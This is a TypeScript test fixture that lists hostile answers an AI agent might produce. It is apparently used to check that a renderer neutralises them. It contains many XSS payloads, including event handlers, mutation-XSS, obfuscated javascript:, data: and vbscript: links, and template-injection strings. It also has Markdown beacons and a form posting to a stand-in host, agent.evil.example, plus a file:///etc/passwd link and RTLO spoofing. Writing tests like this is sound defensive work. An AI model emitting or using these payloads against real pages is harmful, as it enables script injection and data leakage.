/** Where an answer tries to lead or to load from: off this computer. */
const EVIL = 'https://agent.evil.example';
/** What runs where an answer gets any script to run. */
const RUN = 'globalThis.owned=1;document.title=1';

/** What an agent may say that means ill: HTML, Markdown, links, and what is meant to confuse whoever reads it. */
export const ANSWERS: readonly string[] = [
  // HTML that runs.
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<details open ontoggle="${RUN}">more</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `"><script>${RUN}</script>`,
  `</textarea></title></style><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<a href="javascript:${RUN}" autofocus>a</a>`,
  // HTML that loads, or leads away.
  `<img src="${EVIL}/a.png"><img srcset="${EVIL}/b.png 2x">`,
  `<link rel=stylesheet href="${EVIL}/a.css"><link rel=prefetch href="${EVIL}/p"><link rel=dns-prefetch href="${EVIL}">`,
  `<style>@import url(${EVIL}/i.css); body { background: url(${EVIL}/bg.png) }</style>`,
  `<object data="${EVIL}/o"></object><embed src="${EVIL}/e"><iframe src="${EVIL}/f"></iframe>`,
  `<audio src="${EVIL}/a.mp3" autoplay></audio><video poster="${EVIL}/v.png"></video>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/away"><base href="${EVIL}/">`,
  `<form action="${EVIL}/steal"><button autofocus>Your password</button></form>`,
  // Markdown that loads.
  `![a beacon](${EVIL}/beacon.png)`,
  `![svg](data:image/svg+xml,<svg onload="${RUN}">)`,
  `[![both](${EVIL}/in.png)](https://good.example/out)`,
  `![ref][pic]\n\n[pic]: ${EVIL}/ref.png "title"`,
  // Links that must lead nowhere.
  `[a](javascript:${RUN})`,
  `[b](JaVaScRiPt:${RUN})`,
  `[c](&#106;avascript:${RUN})`,
  `[d](java\tscript:${RUN})`,
  `[e](data:text/html,<script>${RUN}</script>)`,
  `[f](vbscript:x) [g](file:///etc/passwd) [h](//agent.evil.example/x)`,
  `[i](http://plain.example/) [j](https://me:secret@agent.evil.example/)`,
  `[k](chrome-extension://abcdefghijklmnopabcdefghijklmnop/options.html) [l](moz-extension://x/options.html)`,
  `[m](blob:https://agent.evil.example/x) [n](about:blank) [o](view-source:https://x.example)`,
  `<javascript:${RUN}> <data:text/html,x>`,
  `[p][evil]\n\n[evil]: javascript:${RUN}`,
  `[q](<javascript:${RUN}>) [r](\\javascript:${RUN})`,
  // One that may be followed, and says where it leads.
  `[our page](https://good.example/path)`,
  // What would confuse.
  `${'> '.repeat(3_000)}deep`,
  '['.repeat(5_000),
  '*'.repeat(5_000),
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `| a | b |\n|---|---|\n| <script>${RUN}</script> | ![x](${EVIL}/cell.png) |`,
  '\u202Egnp.exe\u202C \u0000 \uFFFE \uD800',
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  '__proto__ constructor toString',
];

/** Said after all the others. */
export const LAST_ANSWER = 'That was all.';

/** Tools that an agent may ask for: we have none, and least of all these. */
export const TOOLS: readonly string[] = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'eval',
  'open_url',
  'read_page',
  '<b>bold</b>',
];
